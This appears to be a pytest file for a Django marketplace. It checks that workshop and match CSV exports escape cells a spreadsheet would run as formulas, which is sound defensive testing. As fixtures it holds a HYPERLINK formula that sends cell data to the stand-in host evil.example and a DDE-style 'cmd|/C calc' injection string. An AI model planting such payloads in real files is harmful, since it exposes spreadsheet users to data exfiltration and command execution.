"""Every CSV export of the marketplace escapes cells a spreadsheet would run as formulas."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from clearinghouse.matchmaking import services
from clearinghouse.matchmaking.engine.io import write_csv
from clearinghouse.matchmaking.engine.reasons import Reason, Suggestion
from tests.factories import authorised_user, focal_point

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.django_db
def test_workshop_matches_csv_escapes_formulas(client, django_capture_on_commit_callbacks):
    fac = focal_point("KE")
    ws = services.workshop_open(actor=fac, data={"title": "Wall", "starts_on": timezone.localdate()})
    with django_capture_on_commit_callbacks(execute=True):
        services.need_create(actor=fac, country="KE", workshop=ws, data={
            "title": EVIL, "description": "Training in waterbird counts for wetland rangers.",
            "support_text": "training", "targets": ["3"]})
    with django_capture_on_commit_callbacks(execute=True):
        other = authorised_user("MA")
        services.workshop_join(actor=other, code=ws.join_code)
        services.post_create(actor=other, kind="offer", country="MA", workshop=ws, data={
            "title": "@SUM(1+1)*cmd|' /C calc'!A0 training in waterbird counts", "targets": ["3"],
            "description": "Two-week field training on waterbird counts and wetland bird monitoring.",
            "support_text": "training"})
    client.force_login(fac)
    r = client.get(reverse("matchmaking:workshop-csv", args=[ws.pk]))
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert len(rows) >= 2, rows
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0 training in waterbird counts" in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_match_command_csv_escapes_formulas():
    out = io.StringIO()
    write_csv([("=NEED-1", [Suggestion(offer_id="+OFFER", score=0.5,
                                       reasons=[Reason("similar_text", {})])])], out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][0] == "'=NEED-1" and rows[1][2] == "'+OFFER"
